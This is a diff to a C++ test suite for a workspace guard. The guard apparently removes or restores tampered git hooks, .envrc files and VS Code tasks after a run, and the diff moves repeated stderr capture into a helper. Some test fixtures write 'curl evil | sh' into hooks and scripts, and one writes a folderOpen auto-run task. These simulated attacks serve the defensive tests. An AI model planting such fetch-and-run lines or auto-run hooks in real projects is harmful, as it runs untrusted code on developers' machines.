@@ -1006,6 +1006,13 @@ void drain(WorkspaceGuard& guard) {
   while (pending(guard.watchFd())) guard.onWatchEvents();
 }
 
+// Ends the run: the check after it, and what the guard said.
+std::string finishRun(WorkspaceGuard& guard) {
+  testing::internal::CaptureStderr();
+  guard.finish();
+  return testing::internal::GetCapturedStderr();
+}
+
 // Renames `a` to `b` and back 20,000 times in the root of `t`: more events than the kernel queues
 // (16,384), so the queue overflows and what comes after is lost.
 void overflowQueue(const TempTree& t) {
@@ -1373,9 +1380,7 @@ TEST_F(GuardPlanTest, APinnedFileReplacedFromOutsideIsPutBackAsItWasAfterTheRun)
   drain(guard_);
   EXPECT_FALSE(t_.exists(".git/config")) << "removed during the run";
   replace(".envrc", "again\n");  // after the watch removed the first one: removed after the run
-  testing::internal::CaptureStderr();
-  guard_.finish();
-  std::string said = testing::internal::GetCapturedStderr();
+  std::string said = finishRun(guard_);
   std::stringstream config, envrc;
   config << std::ifstream(t_ / ".git/config").rdbuf();
   envrc << std::ifstream(t_ / ".envrc").rdbuf();
@@ -1593,9 +1598,7 @@ TEST_F(GuardPlanTest, WhatTheWatchRemovedIsListedUpToABound) {
   drain(guard_);
   EXPECT_FALSE(t_.exists("mise.1099.toml"));
   t_.write(".envrc");  // found after the run, past the bound too
-  testing::internal::CaptureStderr();
-  guard_.finish();
-  std::string said = testing::internal::GetCapturedStderr();
+  std::string said = finishRun(guard_);
   EXPECT_FALSE(t_.exists(".envrc"));
   EXPECT_EQ(told.size(), 1000u);
   EXPECT_EQ(toldMore, 101u);
@@ -2019,9 +2022,7 @@ TEST_F(GuardPlanTest, FinishRemovesASymlinkLeftWhereAPlaceWasAndChecksThePlaceWh
   t_.write("libs/foo/.pre-commit-config.yaml", "evil\n");
   stdfs::rename(t_ / "libs/foo", t_ / "libs/.foo-moved");
   stdfs::create_directory_symlink(".foo-moved", t_ / "libs/foo");
-  testing::internal::CaptureStderr();
-  guard_.finish();
-  std::string said = testing::internal::GetCapturedStderr();
+  std::string said = finishRun(guard_);
   EXPECT_FALSE(t_.exists("libs/foo")) << said;
   EXPECT_FALSE(t_.exists("libs/.foo-moved/.pre-commit-config.yaml")) << said;
   EXPECT_TRUE(t_.exists("libs/.foo-moved/.git/HEAD"));
@@ -2046,9 +2047,7 @@ TEST_F(GuardPlanTest, APinnedFileChangedThroughAnotherLinkIsPutBackOrRemoved) {
     std::ofstream(t_ / rel, std::ios::app) << "curl evil | sh\n";
   stdfs::remove(t_ / "scripts/tool-versions");
   drain(guard_);
-  testing::internal::CaptureStderr();
-  guard_.finish();
-  std::string said = testing::internal::GetCapturedStderr();
+  std::string said = finishRun(guard_);
   std::stringstream envrc;
   envrc << std::ifstream(t_ / ".envrc").rdbuf();
   EXPECT_EQ(envrc.str(), "export A=1\n") << said;
@@ -2075,9 +2074,7 @@ TEST_F(GuardPlanTest, APinnedHookWhoseOtherLinkWasRenamedOverIsKept) {
   t_.write("scripts/pre-commit.sedXYZ", "#!/bin/sh\nnpm run lint\n");
   stdfs::rename(t_ / "scripts/pre-commit.sedXYZ", t_ / "scripts/pre-commit");
   drain(guard_);
-  testing::internal::CaptureStderr();
-  guard_.finish();
-  std::string said = testing::internal::GetCapturedStderr();
+  std::string said = finishRun(guard_);
   std::stringstream hook;
   hook << std::ifstream(t_ / ".git/hooks/pre-commit").rdbuf();
   EXPECT_EQ(hook.str(), "#!/bin/sh\nnpm test\n") << said;
@@ -2091,9 +2088,7 @@ TEST_F(GuardPlanTest, AFileInAPinnedDirectoryWrittenThroughAnotherLinkIsRemoved)
   plan();
   std::ofstream(t_ / "tasks.json", std::ios::app) << "{\"runOn\": \"folderOpen\"}\n";
   drain(guard_);
-  testing::internal::CaptureStderr();
-  guard_.finish();
-  std::string said = testing::internal::GetCapturedStderr();
+  std::string said = finishRun(guard_);
   EXPECT_FALSE(t_.exists(".vscode/tasks.json")) << said;
   EXPECT_TRUE(t_.exists(".vscode"));
   EXPECT_NE(said.find("removed " + t_.path() + "/.vscode/tasks.json,"), std::string::npos) << said;
@@ -2126,9 +2121,7 @@ TEST_F(GuardPlanTest, AHooksPathInsideGitWrittenThroughAnotherLinkIsRemoved) {
     for (const char* rel : {"scripts/pre-commit", "scripts/fsmon"})
       std::ofstream(t / rel, std::ios::app) << "curl evil | sh\n";
     drain(guard);
-    testing::internal::CaptureStderr();
-    guard.finish();
-    std::string said = testing::internal::GetCapturedStderr();
+    std::string said = finishRun(guard);
     EXPECT_FALSE(t.exists(".git/githooks/pre-commit")) << said;
     EXPECT_FALSE(t.exists(".git/tools/fsmon")) << said;
     EXPECT_NE(said.find("removed " + t.path() + "/.git/githooks/pre-commit,"), std::string::npos) << said;
@@ -2146,9 +2139,7 @@ TEST_F(GuardPlanTest, ANestedRepositorysHooksPathInsideItsGitIsCompared) {
   plan();
   std::ofstream(t_ / "scripts/pre-push", std::ios::app) << "curl evil | sh\n";
   drain(guard_);
-  testing::internal::CaptureStderr();
-  guard_.finish();
-  std::string said = testing::internal::GetCapturedStderr();
+  std::string said = finishRun(guard_);
   EXPECT_FALSE(t_.exists("sub/.git/githooks/pre-push")) << said;
   EXPECT_NE(said.find("removed " + t_.path() + "/sub/.git/githooks/pre-push,"), std::string::npos) << said;
 }
